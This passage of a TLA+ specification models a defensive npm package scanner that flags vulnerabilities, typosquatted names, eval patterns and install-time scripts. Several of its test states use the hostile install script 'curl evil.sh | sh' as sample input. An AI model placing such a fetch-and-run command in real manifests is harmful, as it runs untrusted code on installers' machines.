\* line 29: content.substring(0, match.index).split('\n').length, for a match
\* in the k-th line of a run that has `before` lines before it
PatternLine(before, k) == before + k

\* lines 28-42 for the lines of one run
RECURSIVE PatternsOfRun(_, _, _, _, _)
PatternsOfRun(rule, r, k, before, f) ==
    IF k > r.count THEN <<>>
    ELSE Repeat(MatchesInLine(rule, r.tokens),
                PatternFinding(rule, f, PatternLine(before, k),
                               Snippet(PatternLine(before, k), r, SnippetCap)))
         \o PatternsOfRun(rule, r, k + 1, before, f)

RECURSIVE PatternsOfRule(_, _, _, _)
PatternsOfRule(rule, runs, before, f) ==
    IF runs = <<>> THEN <<>>
    ELSE PatternsOfRun(rule, Head(runs), 1, before, f)
         \o PatternsOfRule(rule, Tail(runs), before + Head(runs).count, f)

\* lines 25-43
RECURSIVE PatternFindings(_, _, _)
PatternFindings(rules, text, f) ==
    IF rules = <<>> THEN <<>>
    ELSE PatternsOfRule(Head(rules), text.lines, 0, f)
         \o PatternFindings(Tail(rules), text, f)

\* part_001 lines 20-75
analyzeContentByPatterns(text, f) ==
    LET longLine == hasLongLines(text)
    IN  PatternFindings(PATTERNS, text, f)
        \o (IF longLine /= NoLongLine THEN <<MassiveLineLength(longLine, f)>> ELSE <<>>)
        \o (IF ~f.isJson /\ text.obfuscated THEN <<HighEntropy(f)>> ELSE <<>>)

AnalyzeContentByPatterns ==
    /\ cpc = "idle"
    /\ findings' = analyzeContentByPatterns(content, file)
    /\ cpc' = "done"
    /\ UNCHANGED <<content, file, astRan, outsideContent>>

\* the texts given to the pattern rules: nothing, one line, or two equal
\* lines, after nothing, one line or two lines
PatternRuns ==
    {Run(1, 20, 0, t) : t \in SeqsUpTo(PatternTokens, MaxTokens)}
    \cup {Run(2, 150, 2, t) : t \in SeqsUpTo(PatternTokens, MaxTokens)}

PatternTexts ==
    {Text(pre \o <<r>>, TRUE, FALSE) :
        pre \in {<<>>, <<Run(1, 20, 0, <<"eval(">>)>>, <<Run(2, 2 * LongLineThreshold, 0, <<>>)>>},
        r \in PatternRuns}
    \cup {Text(<<>>, TRUE, TRUE)}

InitPattern ==
    /\ content \in PatternTexts
    /\ file \in {File("index.js"), File("data.json")}
    /\ findings = <<>>
    /\ astRan = FALSE
    /\ cpc = "idle"
    /\ IdleOutsideContent

SpecPattern == InitPattern /\ [][AnalyzeContentByPatterns]_vars

(***************************************************************************)
(* Properties                                                              *)
(***************************************************************************)
\* the position in the package list of the package a finding names
PositionOf(f) == f.name[2]

\* the index of the chunk that holds position i
ChunkOf(i) == ((i - 1) \div chunkSize) + 1

CeilDiv(a, b) == (a + b - 1) \div b

\* the chunk that consecutive slices of chunkSize entries put at index k
ExpectedChunk(k, n) == [lo |-> (k - 1) * chunkSize + 1, hi |-> Min(k * chunkSize, n)]

\* the findings of allVulns for package position i and advisory id
FindingsFor(i, id) ==
    {j \in 1..Len(allVulns) :
        /\ allVulns[j].type = "Vulnerability"
        /\ allVulns[j].name = PkgName(i)
        /\ allVulns[j].version = PkgVersion(i)
        /\ allVulns[j].id = id}

IdsAt(i) == IF i \in DOMAIN osv THEN {osv[i][k] : k \in 1..Len(osv[i])} ELSE {}

\* C1: in every reachable state of a scan the number of in-flight outbound
\* calls (registry metadata, weekly downloads, batch queries, advisory
\* details) is at most the limiter's cap of 10.
C1_InFlightWithinCap == InFlight <= Concurrency

\* C2: for a list of n entries the batch queries issued are, in order, the
\* consecutive slices of at most 500 entries that cover the list; when the
\* call has returned there are exactly ceil(n/500) of them (none for an empty
\* list), and 1200 packages give three queries of 500, 500 and 200 entries.
C2_Chunking ==
    /\ \A k \in 1..Len(posted) :
          /\ posted[k] = ExpectedChunk(k, packages)
          /\ ChunkLen(posted[k]) >= 1
          /\ ChunkLen(posted[k]) <= 500
    /\ vpc = "done" =>
          /\ Len(posted) = CeilDiv(packages, 500)
          /\ packages = 0 => posted = <<>>
          /\ packages > 0 => posted[1].lo = 1 /\ posted[Len(posted)].hi = packages
          /\ packages = 1200 =>
                [k \in 1..Len(posted) |-> ChunkLen(posted[k])] = <<500, 500, 200>>

C2_Witness ==
    /\ vpc = "done"
    /\ packages = 1200
    /\ Len(posted) = 3
    /\ ChunkLen(posted[3]) = 200

\* C3: when the batch query of a chunk fails (network error, timeout or
\* malformed response) the batch query of every later chunk is still issued,
\* the call returns normally, and allVulns holds no finding for a package of
\* the failed chunk.
C3_FailedChunkSkipped ==
    /\ \A k \in 1..Len(chunkStatus) :
          chunkStatus[k] /= "ok" =>
              /\ k < Len(chunks) => Len(posted) > k
              /\ \A j \in 1..Len(allVulns) : ChunkOf(PositionOf(allVulns[j])) /= k
    /\ vpc = "done" => Len(chunkStatus) = Len(chunks) /\ Len(posted) = Len(chunks)

\* C4: for every package of a chunk that was answered and processed, and
\* every advisory the database matches to it, allVulns holds exactly one
\* Vulnerability finding with the package's name and version and the
\* advisory's id, whether or not the detail fetch succeeded; every finding
\* names a package of the input list and an advisory matched to it.
C4_OneFindingPerPair ==
    /\ \A k \in 1..Len(chunkStatus) :
          chunkStatus[k] = "ok" =>
              \A i \in DOMAIN osv :
                  ChunkOf(i) = k =>
                      \A id \in IdsAt(i) : Cardinality(FindingsFor(i, id)) = 1
    /\ \A j \in 1..Len(allVulns) :
          /\ allVulns[j].type = "Vulnerability"
          /\ PositionOf(allVulns[j]) \in 1..packages
          /\ allVulns[j].name = PkgName(PositionOf(allVulns[j]))
          /\ allVulns[j].version = PkgVersion(PositionOf(allVulns[j]))
          /\ allVulns[j].id \in IdsAt(PositionOf(allVulns[j]))
          /\ Cardinality(FindingsFor(PositionOf(allVulns[j]), allVulns[j].id)) = 1

\* a chunk was processed whose advisory A was emitted from the stub (its
\* detail fetch failed) next to an advisory B emitted from its detail
C4_Witness ==
    /\ vpc = "done"
    /\ Len(chunkStatus) >= 2
    /\ chunkStatus[1] = "ok"
    /\ \E j \in 1..Len(allVulns) :
          /\ allVulns[j].id = "A"
          /\ allVulns[j].severity = "low"
          /\ PositionOf(allVulns[j]) = 1
    /\ \E j \in 1..Len(allVulns) :
          /\ allVulns[j].id = "B"
          /\ allVulns[j].severity = "medium"
          /\ PositionOf(allVulns[j]) = 1
    /\ "A" \in {detailLog[k] : k \in 1..Len(detailLog)}

\* C7: during a scan reputation lookups are issued only when the dependency
\* list has fewer than 200 entries; with 200 or more no registry metadata or
\* download request is made and no Reputation finding is produced.
C7_ReputationBelowCeilingOnly ==
    depsToScan >= 200 =>
        /\ repMeta = 0
        /\ repDl = 0
        /\ repDone = 0
        /\ repFindings = 0
        /\ \A j \in 1..Len(allFindings) : allFindings[j].type /= "Reputation"

\* the severity keyword the serialized advisory holds first in the order
\* critical, high, medium; low when it holds none
KeywordSeverity(v) ==
    LET words == {SerializedLower(v)[i] : i \in 1..Len(SerializedLower(v))}
        has(k) == \E w \in words : IsSubstring(k, w)
    IN  CASE has("critical") -> "critical"
          [] ~has("critical") /\ has("high") -> "high"
          [] ~has("critical") /\ ~has("high") /\ has("medium") -> "medium"
          [] OTHER -> "low"

\* C5 as stated: the severity is the database-supplied severity field (up to
\* letter case) when present, and otherwise the result of the keyword scan.
C5_SeverityFieldElseKeywords ==
    sevResult /= Absent =>
        sevResult = IF Truthy(advisory.dbSeverity)
                       THEN ToLowerCase(advisory.dbSeverity)
                       ELSE KeywordSeverity(advisory)

\* C5 (amended): the severity is the lower-cased database_specific.severity
\* when that field is present and non-empty; otherwise it is high when the
\* advisory carries a non-empty severity (CVSS score) list; otherwise it is
\* decided by the keyword scan critical, high, medium, and is low when no
\* keyword occurs.
C5_SeverityDerivation ==
    sevResult /= Absent =>
        /\ Truthy(advisory.dbSeverity) => sevResult = ToLowerCase(advisory.dbSeverity)
        /\ ~Truthy(advisory.dbSeverity) /\ advisory.cvss /= <<>> => sevResult = "high"
        /\ ~Truthy(advisory.dbSeverity) /\ advisory.cvss = <<>> =>
              sevResult = KeywordSeverity(advisory)

\* an advisory without a database severity, with a CVSS list and the word
\* critical in its text, is rated high
C5_Witness ==
    /\ sevResult = "high"
    /\ advisory.dbSeverity = Absent
    /\ advisory.cvss /= <<>>
    /\ KeywordSeverity(advisory) = "critical"

\* the metadata request failed otherwise than by answering not-found
MetaFailedOtherwise(r) ==
    \/ r.kind = "error" /\ r.status /= 404
    \/ r.kind = "ok" /\ r.body \in {"noTime", "noCreated"}

NotFoundResult ==
    /\ Len(repResult) = 1
    /\ repResult[1].type = "Reputation"
    /\ repResult[1].name = pkgName
    /\ repResult[1].severity = IF pkgName[1] = "@" THEN "low" ELSE "critical"

\* C6 as stated: a not-found answer gives exactly one Reputation finding, low
\* for a scoped name and critical otherwise; any other failure of the
\* metadata request (timeout, other status, malformed body) gives no finding.
C6_NotFoundElseNothing ==
    rpc = "done" =>
        /\ metaResponse.kind = "error" /\ metaResponse.status = 404 => NotFoundResult
        /\ MetaFailedOtherwise(metaResponse) => repResult = <<>>

\* C6 (amended): a not-found answer gives exactly one Reputation finding, low
\* for a scoped name and critical otherwise; a timeout, another status, or a
\* body without a time object gives no finding, and the call returns all the
\* same.  A body that has a time object but no parsable creation date is not a
\* failure: no brand-new finding is made and the download check still runs.
C6_NotFoundAsymmetry ==
    /\ rpc = "done" =>
          /\ metaResponse.kind = "error" /\ metaResponse.status = 404 => NotFoundResult
          /\ ( \/ metaResponse.kind = "error" /\ metaResponse.status /= 404
               \/ metaResponse.kind = "ok" /\ metaResponse.body = "noTime" )
             => (repResult = <<>> /\ dlResponse = Pending)
          /\ metaResponse.kind = "ok" /\ metaResponse.body = "noCreated" =>
                /\ dlResponse /= Pending
                /\ \A k \in 1..Len(repResult) : repResult[k].severity = "medium"
    /\ rpc /= "idle" /\ metaResponse.kind = "error" => rpc = "done"

C6_Witness ==
    /\ rpc = "done"
    /\ metaResponse.status = 404
    /\ pkgName[1] = "@"
    /\ Len(repResult) = 1
    /\ repResult[1].severity = "low"

PopularNames == {POPULAR_PACKAGES[k] : k \in 1..Len(POPULAR_PACKAGES)}

DeclaredIn(pkg) ==
    {pkg.dependencies[k].name : k \in 1..Len(pkg.dependencies)}
    \cup {pkg.devDependencies[k].name : k \in 1..Len(pkg.devDependencies)}

TyposquatCount(d, p) ==
    Cardinality({k \in 1..Len(allFindings) :
                    /\ allFindings[k].type = "Typosquatting"
                    /\ allFindings[k].name = d
                    /\ allFindings[k].popular = p})

LodDashAsh == <<"l", "o", "d", "-", "a", "s", "h">>

Lodash == <<"l", "o", "d", "a", "s", "h">>

Unrelated ==
    <<"c", "o", "m", "p", "l", "e", "t", "e", "l", "y", "-", "u", "n", "r", "e",
      "l", "a", "t", "e", "d", "-", "n", "a", "m", "e">>

\* C8: after the manifest step on a manifest that parses, every declared
\* dependency name (of dependencies or devDependencies) and every popular name
\* have exactly one high-severity Typosquatting finding when the two differ and
\* their edit distance is at most 1 (popular name shorter than 5 characters) or
\* at most 2 (otherwise), and none when they are equal or farther apart;
\* lod-ash is flagged against lodash and completely-unrelated-name is not
\* flagged at all.
C8_TyposquattingThresholds ==
    (mpc = "done" /\ pkgJson.parses) =>
        /\ \A d \in DeclaredIn(pkgJson), p \in PopularNames :
              TyposquatCount(d, p) =
                  IF d /= p /\ Levenshtein(d, p) <= (IF Len(p) < 5 THEN 1 ELSE 2)
                      THEN 1 ELSE 0
        /\ \A k \in 1..Len(allFindings) :
              allFindings[k].type = "Typosquatting" =>
                  /\ allFindings[k].severity = "high"
                  /\ allFindings[k].name \in DeclaredIn(pkgJson)
                  /\ allFindings[k].popular \in PopularNames
                  /\ allFindings[k].popular /= allFindings[k].name
        /\ LodDashAsh \in DeclaredIn(pkgJson) => TyposquatCount(LodDashAsh, Lodash) = 1
        /\ \A p \in PopularNames : TyposquatCount(Unrelated, p) = 0
        /\ \A p \in PopularNames : TyposquatCount(p, p) = 0

\* a manifest declaring lod-ash, and raect in devDependencies, has been
\* through the step and both are flagged
C8_Witness ==
    /\ mpc = "done"
    /\ pkgJson.parses
    /\ pkgJson.dependencies = <<DepEntry(LodDashAsh)>>
    /\ Len(pkgJson.devDependencies) = 1
    /\ TyposquatCount(LodDashAsh, Lodash) = 1
    /\ TyposquatCount(<<"r", "a", "e", "c", "t">>, <<"r", "e", "a", "c", "t">>) = 1

LifecycleCount(key) ==
    Cardinality({k \in 1..Len(allFindings) :
                    /\ allFindings[k].type = "Lifecycle Script"
                    /\ allFindings[k].name = key})

\* C9: after the manifest step on a manifest that parses, each of preinstall,
\* postinstall and install with a non-empty script has exactly one critical
\* Lifecycle Script finding whose content is the script and whose file is the
\* manifest; an empty script, an absent key and any other key have none; a
\* manifest whose only such script is postinstall has exactly one such finding.
C9_LifecycleScripts ==
    (mpc = "done" /\ pkgJson.parses) =>
        /\ \A key \in ScriptKeys \cup {"preinstall", "postinstall", "install"} :
              LifecycleCount(key) =
                  IF /\ key \in {"preinstall", "postinstall", "install"}
                     /\ key \in DOMAIN pkgJson.scripts
                     /\ pkgJson.scripts[key] /= ""
                      THEN 1 ELSE 0
        /\ \A k \in 1..Len(allFindings) :
              allFindings[k].type = "Lifecycle Script" =>
                  /\ allFindings[k].severity = "critical"
                  /\ allFindings[k].file = "package.json"
                  /\ allFindings[k].name \in DOMAIN pkgJson.scripts
                  /\ allFindings[k].content = pkgJson.scripts[allFindings[k].name]
        /\ (/\ "postinstall" \in DOMAIN pkgJson.scripts
            /\ pkgJson.scripts["postinstall"] /= ""
            /\ \A key \in {"preinstall", "install"} :
                  key \in DOMAIN pkgJson.scripts => pkgJson.scripts[key] = "")
              => Cardinality({k \in 1..Len(allFindings) :
                                 allFindings[k].type = "Lifecycle Script"}) = 1

\* a manifest with an install script and an empty preinstall script has been
\* through the step: one finding, carrying the install script
C9_Witness ==
    /\ mpc = "done"
    /\ pkgJson.parses
    /\ DOMAIN pkgJson.scripts = {"install", "preinstall"}
    /\ pkgJson.scripts["install"] = "curl evil.sh | sh"
    /\ pkgJson.scripts["preinstall"] = ""
    /\ LifecycleCount("install") = 1
    /\ LifecycleCount("preinstall") = 0

\* C10: the list deduplicate returns holds every distinct (name, version) pair
\* of its input exactly once, and nothing else.
C10_DedupExactlyOnce ==
    dpc = "done" =>
        /\ \A i \in 1..Len(deps) :
              Cardinality({k \in 1..Len(unique) : unique[k] = deps[i]}) = 1
        /\ \A k \in 1..Len(unique) : \E i \in 1..Len(deps) : deps[i] = unique[k]

\* the first format whose file is there and goes through its parser
Parses(k) == lockFiles[k].exists /\ lockFiles[k].wellFormed

FirstParsed ==
    IF \E k \in 1..Len(LockFormats) : Parses(k)
        THEN CHOOSE k \in 1..Len(LockFormats) :
                 Parses(k) /\ \A j \in 1..(k - 1) : ~Parses(j)
        ELSE 0

\* C11: parsePackageLock reads the lockfiles in the order package-lock.json,
\* yarn.lock, pnpm-lock.yaml, bun.lock, deno.lock; it returns the deduplicated
\* list of the first one that parses and reads none after it, and returns null
\* exactly when none of the five parses.
C11_FirstParsedFormatWins ==
    /\ \A i \in 1..Len(lockReads) : lockReads[i] = i
    /\ lpc = "returned" =>
          /\ lockResult.isNull <=> FirstParsed = 0
          /\ FirstParsed /= 0 =>
                /\ lockResult.list = deduplicate(lockFiles[FirstParsed].entries)
                /\ Len(lockReads) = FirstParsed

\* the names the manifest declares, in dependencies or devDependencies
FallbackDeclared == DeclaredIn(pkgFile)

\* C12: when no lockfile parsed and the manifest is read, the dependency list
\* has exactly one entry per name of dependencies and devDependencies, and the
\* entry's version is the range the manifest declares for the name without its
\* leading ^ or ~ and otherwise unchanged.
C12_FallbackStripsLeadingOperator ==
    (fpc = "done" /\ lockParsed.isNull /\ pkgFile.parses
        /\ \A n \in FallbackDeclared : MergedEntry(pkgFile, n).isString) =>
        /\ \A n \in FallbackDeclared :
              Cardinality({k \in 1..Len(depsList) : depsList[k].name = n}) = 1
        /\ \A k \in 1..Len(depsList) :
              /\ depsList[k].name \in FallbackDeclared
              /\ depsList[k].version =
                    StripLeadingRange(MergedEntry(pkgFile, depsList[k].name).version)

SomeLineOver ==
    \E k \in 1..Len(content.lines) : content.lines[k].len > LongLineThreshold

FirstLineOver ==
    CHOOSE k \in 1..Len(content.lines) :
        /\ content.lines[k].len > LongLineThreshold
        /\ \A j \in 1..(k - 1) : content.lines[j].len <= LongLineThreshold

MassiveFindings ==
    {k \in 1..Len(findings) : findings[k].name = "Massive Line Length"}

\* C13: for a text of more than 1 MiB, analyzeContent does not parse the text
\* and returns no syntax-tree finding, valid syntax or not; it returns exactly
\* the Massive Line Length finding when some line is over 1000 characters and
\* nothing otherwise.
C13_OversizedSkipsSyntaxTree ==
    (cpc = "done" /\ ContentLength(content) > AstSizeLimit) =>
        /\ ~astRan
        /\ \A k \in 1..Len(findings) : findings[k].type /= "AST"
        /\ Len(findings) = IF SomeLineOver THEN 1 ELSE 0
        /\ SomeLineOver =>
              /\ findings[1].name = "Massive Line Length"
              /\ findings[1].severity = "high"

\* C14: for every text and every file type, JSON included, analyzeContent
\* returns exactly one high Massive Line Length finding when some line is over
\* 1000 characters, reporting the length of the first such line, and none when
\* no line is.
C14_OneMassiveLineFinding ==
    cpc = "done" =>
        /\ Cardinality(MassiveFindings) = IF SomeLineOver THEN 1 ELSE 0
        /\ \A k \in MassiveFindings :
              /\ findings[k].severity = "high"
              /\ findings[k].content.length = content.lines[FirstLineOver].len

\* the run holding the line-th line of the text, and the 0 when there is none
RECURSIVE RunOfLine(_, _)
RunOfLine(runs, line) ==
    IF runs = <<>> \/ line < 1 THEN Run(0, 0, 0, <<>>)
    ELSE IF line <= Head(runs).count THEN Head(runs)
    ELSE RunOfLine(Tail(runs), line - Head(runs).count)

PatternCount(rule, line) ==
    Cardinality({k \in 1..Len(findings) :
                    /\ findings[k].type = "Pattern"
                    /\ findings[k].name = rule.name
                    /\ findings[k].line = line})

FileEntry(name, readable, text, pkg) ==
    [name |-> name, readable |-> readable, text |-> text, pkg |-> pkg]

PlainText == Text(<<Run(1, 20, 0, <<>>)>>, TRUE, FALSE)

EvalText == Text(<<Run(1, 20, 2, <<"eval(">>)>>, TRUE, FALSE)

BrokenText == Text(<<Run(1, 20, 2, <<"eval(">>)>>, FALSE, FALSE)

BrokenPackedText == Text(<<Run(1, 2 * LongLineThreshold, 0, <<"eval(">>)>>, FALSE, TRUE)

LongJsonText == Text(<<Run(1, 2 * LongLineThreshold, 0, <<>>)>>, FALSE, FALSE)

InstallManifest ==
    Manifest(TRUE, [k \in {"postinstall"} |-> "curl evil.sh | sh"],
             <<DepEntry(<<"l", "o", "d", "-", "a", "s", "h">>)>>, <<>>)

\* the files explored
FileEntries ==
    { FileEntry("index.js", FALSE, EvalText, NoManifest),
      FileEntry("index.js", TRUE, EvalText, NoManifest),
      FileEntry("index.js", TRUE, BrokenText, NoManifest),
      FileEntry("index.js", TRUE, BrokenPackedText, NoManifest),
      FileEntry("data.json", FALSE, LongJsonText, NoManifest),
      FileEntry("data.json", TRUE, LongJsonText, NoManifest),
      FileEntry("package.json", FALSE, PlainText, InstallManifest),
      FileEntry("package.json", TRUE, PlainText, NoManifest),
      FileEntry("package.json", TRUE, PlainText, InstallManifest) }

\* the directories explored: at most MaxFiles files of distinct names
Directories ==
    {d \in SeqsUpTo(FileEntries, MaxFiles) :
        \A a, b \in 1..Len(d) : a /= b => d[a].name /= d[b].name}

\* lines 44-73: what the manifest branch pushes for the file
ManifestFindings(f) ==
    IF f.name = "package.json" /\ f.pkg.parses
        THEN LifecycleFindings(f.pkg.scripts, dangerousScripts) \o checkTyposquatting(f.pkg)
        ELSE <<>>                                   \* line 72: invalid json

\* lines 40-81: what one pass of the loop body pushes
FileFindings(f) ==
    IF f.readable
        THEN ManifestFindings(f) \o analyzeContent(f.text, File(f.name)).findings
        ELSE <<>>                                   \* line 79: failed to read file

\* a loop that ends at the first file it cannot read
NextFileStopOnFailure(k, n, readable) == IF readable THEN k + 1 ELSE n + 1

\* line 38: for (const file of files): the position after the file at k of n
NextFile(k, n, readable) == k + 1

\* lines 38-82, one pass of the loop body
ScanFile ==
    /\ spc = "files"
    /\ fi <= Len(files)
    /\ LET f == files[fi]
       IN  /\ allFindings' = allFindings \o FileFindings(f)
           /\ packageJsonFound' =
                 (packageJsonFound \/ (f.readable /\ f.name = "package.json"))
           /\ fi' = NextFile(fi, Len(files), f.readable)
    /\ UNCHANGED <<files, spc, depsToScan, osv, skipAudit, manifestOk, manifestDeps,
                   lockDeps>>
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, sevVars,
                   repCallVars, manifestVars, dedupVars, lockVars, fallbackVars,
                   contentVars, cliVars, popularVars, auditVars, fixedInVars>>

\* line 38: the loop has no file left
FilesScanned ==
    /\ spc = "files"
    /\ fi > Len(files)
    /\ spc' = "files-done"
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars,
                   depsToScan, allFindings, auxVars>>

\* a scan asked to skip the audit, about to enter its file loop
InitFiles ==
    /\ files \in Directories
    /\ fi = 1
    /\ packages = 0
    /\ osv = <<>>
    /\ InitVulnVars
    /\ InitRepVars
    /\ spc = "files"
    /\ skipAudit = TRUE
    /\ packageJsonFound = FALSE
    /\ manifestOk = FALSE
    /\ manifestDeps = 0
    /\ lockDeps = NoLock
    /\ depsToScan = 0
    /\ allFindings = <<>>
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdleCli
    /\ IdlePopular
    /\ IdleAudit
    /\ IdleFixedIn

NextFiles ==
    \/ ScanFile
    \/ FilesScanned
    \/ StartAudit

SpecFiles == InitFiles /\ [][NextFiles]_vars

\* ---- properties
FindingsOf(name) == SelectSeq(allFindings, LAMBDA x : x.file = name)

IsPrefix(a, b) == Len(a) <= Len(b) /\ SubSeq(b, 1, Len(a)) = a

\* the files the loop has passed
Visited == 1..(IF fi - 1 <= Len(files) THEN fi - 1 ELSE Len(files))

\* a file whose text the syntax-tree parser rejects
ParseFails(f) == f.readable /\ ~File(f.name).isJson /\ ~f.text.parses

FailuresContained ==
    /\ spc = "returned" => fi = Len(files) + 1
    /\ \A k \in Visited :
          LET f == files[k]
          IN  /\ ~f.readable => FindingsOf(f.name) = <<>>
              /\ ParseFails(f) =>
                    \A j \in 1..Len(FindingsOf(f.name)) : FindingsOf(f.name)[j].type /= "AST"
              /\ (f.name = "package.json" /\ ~f.pkg.parses) =>
                    \A j \in 1..Len(allFindings) :
                        allFindings[j].type \notin {"Lifecycle Script", "Typosquatting"}
              /\ (f.readable /\ ~ParseFails(f) /\ (f.name = "package.json" => f.pkg.parses))
                    => Len(FindingsOf(f.name)) =
                          (IF f.name = "package.json" THEN 2
                           ELSE IF f.name = "index.js" THEN 1 ELSE 0)

\* C16: an unreadable file, a text the syntax-tree parser rejects and a root
\* manifest that is not valid JSON never end the scan early: the loop passes
\* every file before the scan returns, no step drops a finding already
\* collected, an unreadable file has no finding, a rejected text has no
\* syntax-tree finding (its long-line and entropy findings remain), an invalid
\* manifest yields no lifecycle or typosquatting finding, and every other file
\* keeps the findings it has on its own
C16_FailuresContained ==
    /\ []FailuresContained
    /\ [][IsPrefix(allFindings, allFindings')]_vars

\* C16 as stated: a file whose text the syntax-tree parser rejects has no
\* finding at all
C16_NoFindingForFailedFile ==
    \A k \in Visited :
        (~files[k].readable \/ ParseFails(files[k])) => FindingsOf(files[k].name) = <<>>

\* a scan has returned after a rejected text that left only its heuristic
\* findings, and the manifest after it has its two findings
C16_Witness ==
    /\ spc = "returned"
    /\ Len(files) = 2
    /\ ParseFails(files[1])
    /\ \E j \in 1..Len(allFindings) : allFindings[j].name = "Massive Line Length"
    /\ files[2].name = "package.json"
    /\ files[2].readable
    /\ Len(FindingsOf("package.json")) = 2

(***************************************************************************)
(* The command line (cli.ts 11-21) and the options scanDirectory reads     *)
(***************************************************************************)
\* lines 16-17: the options object built from the flags.  A flag declared as
\* --no-audit defines the key `audit`, true unless the flag is given; a plain
\* boolean flag defines its key only when given.
ParseOptions(flags) ==
    [k \in {"audit"} \cup (IF "--json" \in flags THEN {"json"} ELSE {}) |->
        IF k = "audit" THEN "--no-audit" \notin flags ELSE TRUE]

\* scanner.ts line 85: options.skipAudit, read from the object of line 21
SkipAuditOf(opts) == "skipAudit" \in DOMAIN opts /\ opts["skipAudit"]

\* the root manifest the audit reads: the readable package.json of the directory
RootParses(d) ==
    \E k \in 1..Len(d) : d[k].name = "package.json" /\ d[k].readable /\ d[k].pkg.parses

RootDeps(d) ==
    IF RootParses(d)
        THEN LET k == CHOOSE j \in 1..Len(d) : d[j].name = "package.json"
             IN  Len(d[k].pkg.dependencies) + Len(d[k].pkg.devDependencies)
        ELSE 0

EvalFile == FileEntry("index.js", TRUE, EvalText, NoManifest)

InstallFile == FileEntry("package.json", TRUE, PlainText, InstallManifest)

\* the directories a command-line scan is run on
CliDirectories ==
    {<<EvalFile>>, <<InstallFile>>, <<EvalFile, InstallFile>>, <<InstallFile, EvalFile>>}

\* cli.ts lines 19-21: the action handler passes its options to scanDirectory
RunCli ==
    /\ spc = "cli"
    /\ options' = ParseOptions(argv)
    /\ skipAudit' = SkipAuditOf(ParseOptions(argv))
    /\ spc' = "files"
    /\ UNCHANGED <<argv, osv, packageJsonFound, manifestOk, manifestDeps, lockDeps,
                   depsToScan, allFindings>>
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, sevVars,
                   repCallVars, manifestVars, dedupVars, lockVars, fallbackVars,
                   contentVars, filesVars, popularVars, auditVars, fixedInVars>>

\* the command line is about to be handled
InitCli ==
    /\ argv \in SUBSET {"--no-audit", "--json"}
    /\ options = <<>>
    /\ files \in CliDirectories
    /\ fi = 1
    /\ skipAudit = FALSE
    /\ packageJsonFound = FALSE
    /\ manifestOk = RootParses(files)
    /\ manifestDeps = RootDeps(files)
    /\ lockDeps \in {NoLock, 1}
    /\ osv \in [Probe(DepsToScan(lockDeps, manifestOk, manifestDeps)) -> StubIdLists]
    /\ packages = 0
    /\ InitVulnVars
    /\ InitRepVars
    /\ spc = "cli"
    /\ depsToScan = 0
    /\ allFindings = <<>>
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdlePopular
    /\ IdleAudit
    /\ IdleFixedIn

NextCli ==
    \/ RunCli
    \/ ScanFile
    \/ FilesScanned
    \/ Next

SpecCli == InitCli /\ [][NextCli]_vars

\* ---- properties
RECURSIVE LocalFindings(_)
LocalFindings(d) ==
    IF d = <<>> THEN <<>> ELSE FileFindings(Head(d)) \o LocalFindings(Tail(d))

\* C17: when --no-audit is given, no batch query, advisory detail request or
\* registry lookup is ever issued, no limiter task is queued, and the scan
\* returns exactly the findings of its file loop
C17_NoAuditSkipsNetwork ==
    "--no-audit" \in argv =>
        /\ posted = <<>>
        /\ detailLog = <<>>
        /\ queue = <<>>
        /\ repMeta + repDl + repDone = 0
        /\ spc = "returned" => allFindings = LocalFindings(files)

(***************************************************************************)
(* getPopularPackages (popular-packages.ts 5-22)                           *)
(***************************************************************************)
\* line 5: let cachedPackages = null
NoCache == <<"null">>

\* line 2: the static seed list
FALLBACK_PACKAGES == POPULAR_PACKAGES

\* the elements of a Set in insertion order
RECURSIVE SetOrder(_, _)
SetOrder(list, seen) ==
    IF list = <<>> THEN <<>>
    ELSE IF Head(list) \in seen THEN SetOrder(Tail(list), seen)
    ELSE <<Head(list)>> \o SetOrder(Tail(list), seen \cup {Head(list)})

\* line 13: [...new Set([...data, ...FALLBACK_PACKAGES])]
Merged(remote) == SetOrder(remote \o FALLBACK_PACKAGES, {})

\* how the request of line 11 settles: an array, a body that is no array, or
\* a failure (timeout included)
RemoteLists == {<<>>, <<<<"z", "o", "d">>>>, <<<<"z", "o", "d">>, FALLBACK_PACKAGES[1]>>}

Settlements ==
    {[kind |-> "array", data |-> d] : d \in RemoteLists}
    \cup {[kind |-> "other", data |-> <<>>], [kind |-> "failed", data |-> <<>>]}

\* lines 12-19: the list the call stores for a settlement
Stored(r) == IF r.kind = "array" THEN Merged(r.data) ELSE FALLBACK_PACKAGES

\* lines 7-11: a call starts; it returns the cache when there is one, else it
\* issues the request and awaits it
GetPopularPackages ==
    \E c \in callers :
    /\ ppc[c] = "idle"
    /\ IF cachedPackages /= NoCache
          THEN /\ ppc' = [ppc EXCEPT ![c] = "returned"]
               /\ returnedList' = [returnedList EXCEPT ![c] = cachedPackages]
               /\ UNCHANGED fetched
          ELSE /\ ppc' = [ppc EXCEPT ![c] = "awaiting"]
               /\ fetched' = fetched + 1
               /\ UNCHANGED returnedList
    /\ UNCHANGED <<cachedPackages, callers, outsidePopular>>

\* lines 11-21: the request of a call settles; the call stores a list in the
\* cache and returns it
FetchSettled ==
    \E c \in callers :
    /\ ppc[c] = "awaiting"
    /\ \E r \in Settlements :
          /\ cachedPackages' = Stored(r)
          /\ returnedList' = [returnedList EXCEPT ![c] = Stored(r)]
    /\ ppc' = [ppc EXCEPT ![c] = "returned"]
    /\ UNCHANGED <<callers, fetched, outsidePopular>>

\* a process that calls getPopularPackages up to MaxCalls times
InitPopular ==
    /\ cachedPackages = NoCache
    /\ callers \in {1..n : n \in 1..MaxCalls}
    /\ ppc = [c \in callers |-> "idle"]
    /\ fetched = 0
    /\ returnedList = [c \in callers |-> <<>>]
    /\ IdleOutsidePopular

NextPopular ==
    \/ GetPopularPackages
    \/ FetchSettled

SpecPopular == InitPopular /\ [][NextPopular]_vars

\* ---- properties
\* C18: at most one request for the popularity list is issued, and all calls
\* that have returned have returned the same list
C18_FetchedOnce ==
    /\ fetched <= 1
    /\ \A c, d \in callers :
          (ppc[c] = "returned" /\ ppc[d] = "returned") => returnedList[c] = returnedList[d]

(***************************************************************************)
